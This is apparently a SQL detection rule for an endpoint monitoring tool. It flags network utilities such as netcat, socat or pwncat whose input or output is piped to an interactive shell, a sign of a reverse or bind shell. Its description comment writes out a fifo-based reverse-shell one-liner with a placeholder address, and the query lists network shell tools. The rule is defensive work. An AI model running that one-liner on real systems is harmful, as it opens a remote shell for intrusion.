-- description: A network utility whose stdin or stdout is joined by a pipe or fifo to a shell reading its commands from it: a reverse or bind shell assembled in a script file, with nothing in any argv (mkfifo f; nc ADDR PORT < f | sh -i > f), found from the fds at exec (no peer ships this)
-- interval: 60
-- platform: linux
-- technique: T1059.004
-- logging: differential_ignore_removals
-- severity: critical
WITH {{common}},
shells(name) AS (VALUES {{shells}}),
-- The peers at the other end that are shells reading commands: exec'd (not a subshell
-- running a builtin: printf x | nc), on no script or command string (bash report.sh | nc
-- feeds metrics, sh -c '...' runs its string; sh -i, sh, sh -s and sh /dev/stdin read what
-- arrives). busybox and toybox run a shell by argv[0], by its file name as the others.
shell_peers AS (
  SELECT r.eid, json_extract(p.value, '$.fd') AS fd, json_extract(p.value, '$.pid') AS pid,
         json_extract(p.value, '$.cmdline') AS cmdline, json_extract(p.value, '$.path') AS path,
         json_extract(p.value, '$.script') AS script,
         substr(json_extract(p.value, '$.cmdline') || ' ', 1, instr(json_extract(p.value, '$.cmdline') || ' ', ' ') - 1) AS argv0
  FROM recent r, json_each(r.pipe_peers) p
  WHERE r.pipe_peers LIKE '[{%'
    AND r.utility IN ('netcat', 'ncat', 'socat', 'telnet', 'openssl', 'cryptcat', 'pwncat', 'sbd')
    AND json_extract(p.value, '$.forked') = 0
),
named AS (
  SELECT s.*, replace(s.path, rtrim(s.path, replace(s.path, '/', '')), '') AS name,
         ltrim(replace(s.argv0, rtrim(s.argv0, replace(s.argv0, '/', '')), ''), '-') AS argv0_name
  FROM shell_peers s
  -- reading commands: no script, or one that is its stdin or a pipe (sh /dev/stdin)
  WHERE s.script IS NULL OR s.script LIKE '/dev/%' OR s.script LIKE '/proc/%'
),
shells_reading AS (
  SELECT * FROM named WHERE name IN (SELECT name FROM shells) OR argv0_name IN (SELECT name FROM shells)
)
SELECT r.*, CASE WHEN s.fd = 1 THEN 'its output is a shell''s input' ELSE 'a shell''s output is its input' END AS shape,
  printf('%s (%s) was executed by %s with a shell at the other end of its %s (%s: pid %d, %s): a shell reached over the network. Command: %s. stdin: %s, stdout: %s. Chain: %s',
         r.path, r.utility, r.username, CASE WHEN s.fd = 1 THEN 'stdout' ELSE 'stdin' END,
         CASE WHEN s.fd = 1 THEN r.stdout ELSE r.stdin END, s.pid, s.cmdline, r.cmdline, r.stdin, r.stdout, r.chain) || r.contacted_note AS message
FROM report r JOIN shells_reading s ON s.eid = r.eid
GROUP BY r.eid;
